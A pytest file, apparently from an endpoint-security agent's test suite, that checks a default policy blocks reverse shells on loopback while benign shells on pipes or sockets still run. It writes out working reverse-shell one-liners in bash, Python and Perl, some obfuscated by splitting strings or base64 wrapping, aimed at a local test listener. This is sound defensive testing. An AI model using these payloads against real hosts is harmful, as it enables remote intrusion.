"""Reverse shells in other dress, blocked by the default policy's socket rule, on loopback.

Each attempt connects to a listener the test holds on 127.0.0.1 and, if its shell ran, would
answer the canary command `echo CANARY-$((6*7))` (harmless whatever happens).  The listener
waits a few seconds at most.  Each attempt has a benign twin: the same shell and interpreter on
pipes, or a process that holds a socket on another descriptor and runs a shell (a server).
"""

from __future__ import annotations

import socket
import subprocess
import threading

import pytest

from tests.unit.templates.test_default_policy import render

CANARY = b"echo CANARY-$((6*7)); exit\n"
ANSWER = b"CANARY-42"


class Listener:
    """Accepts one connection, sends the canary command, collects what comes back."""

    def __init__(self) -> None:
        self.srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.srv.bind(("127.0.0.1", 0))
        self.srv.listen(4)
        self.srv.settimeout(5)
        self.port = self.srv.getsockname()[1]
        self.got = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.srv.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(3)
            try:
                conn.sendall(CANARY)
                while chunk := conn.recv(4096):
                    self.got += chunk
            except OSError:
                pass

    def answered(self) -> bool:
        self.thread.join(timeout=8)
        self.srv.close()
        return ANSWER in self.got


@pytest.fixture
def default_agent(start_agent, cgroup) -> tuple:
    """The default policy, scoped to the test's cgroup (one agent for all the attempts)."""
    return start_agent(render(edrfleet_scope_cgroups=[cgroup.name])), cgroup


PY_DUP2 = ("import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',{port}));"
           "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])")
PY_PTY = ("import socket,os,pty;s=socket.create_connection(('127.0.0.1',{port}));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')")
B64 = ("import base64;exec(base64.b64decode('{code}'))")
SPLIT_DEV_TCP = "a=/dev/t; b=cp/127.0.0.1/{port}; exec 5<>$a$b; sh <&5 >&5 2>&5"
PERL = ("use IO::Socket::INET;$s=IO::Socket::INET->new('127.0.0.1:{port}');"
        "open(STDIN,'<&',$s);open(STDOUT,'>&',$s);open(STDERR,'>&',$s);exec('/bin/sh','-i')")
ATTEMPTS = {
    "dev-tcp split across variables": lambda p: ["bash", "-c", SPLIT_DEV_TCP.format(port=p)],
    "python dup2 one-liner": lambda p: ["python3", "-c", PY_DUP2.format(port=p)],
    "python pty.spawn (parent holds the socket)": lambda p: ["python3", "-c",
                                                              PY_PTY.format(port=p)],
    "base64-wrapped python": lambda p: ["python3", "-c", B64.format(
        code=__import__("base64").b64encode(PY_DUP2.format(port=p).encode()).decode())],
    "script fed on stdin": lambda p: ["python3", "-"],
    "perl open-dup one-liner": lambda p: ["perl", "-e", PERL.format(port=p)],
}


def test_reverse_shells_in_every_dress_never_answer(default_agent):
    agent, cg = default_agent
    answered = []
    for name, make in ATTEMPTS.items():
        lis = Listener()
        argv = make(lis.port)
        stdin = PY_DUP2.format(port=lis.port).encode() if argv[-1] == "-" else None
        try:
            cg.run(argv, input=stdin, timeout=15)
        except subprocess.TimeoutExpired:
            pass
        if lis.answered():
            answered.append(name)
    assert not answered
    # every shell was killed (an argv rule may name the exec first: `sh -i` on a socket)
    evs = agent.wait_events(lambda e: e.get("event.action") == "blocked",
                            count=len(ATTEMPTS), timeout=10)
    assert len(evs) >= len(ATTEMPTS), [e.get("rule.id") for e in agent.events()]
    by_socket = [e for e in evs if e["rule.id"].endswith("-on-network-socket")]
    assert len(by_socket) >= 4, [e.get("rule.id") for e in evs]


def test_benign_twins_run(default_agent):
    agent, cg = default_agent
    # the same shell on a pipe
    res = cg.run(["bash", "-c", "echo 'echo CANARY-$((6*7))' | sh"], text=True)
    assert "CANARY-42" in res.stdout
    # a server: holds a connection on fd 3+ and runs a shell with pipes (sshd, web servers)
    lis = Listener()
    code = (f"import socket,subprocess;s=socket.create_connection(('127.0.0.1',{lis.port}));"
            "r=subprocess.run(['/bin/sh','-c','echo CANARY-$((6*7))'],capture_output=True);"
            "s.sendall(r.stdout);s.close()")
    assert cg.run(["python3", "-c", code]).returncode == 0
    assert lis.answered()
    # /dev/tcp as a probe: a socket on a non-shell's stdin (cat), the shell's on fd 5
    lis = Listener()
    res = cg.run(["bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{lis.port}; "
                  "echo CANARY-42 >&5; timeout 2 cat <&5 >/dev/null; echo done"], text=True)
    assert "done" in res.stdout
    assert lis.answered()
    # a unix socket pair on a shell's streams (sshd's session channels)
    a, b = socket.socketpair()
    with a, b:
        b.sendall(b"echo CANARY-$((6*7))\n")
        b.shutdown(socket.SHUT_WR)
        res = cg.run(["/bin/sh"], stdin=a, capture_output=True, text=True)
        assert "CANARY-42" in res.stdout
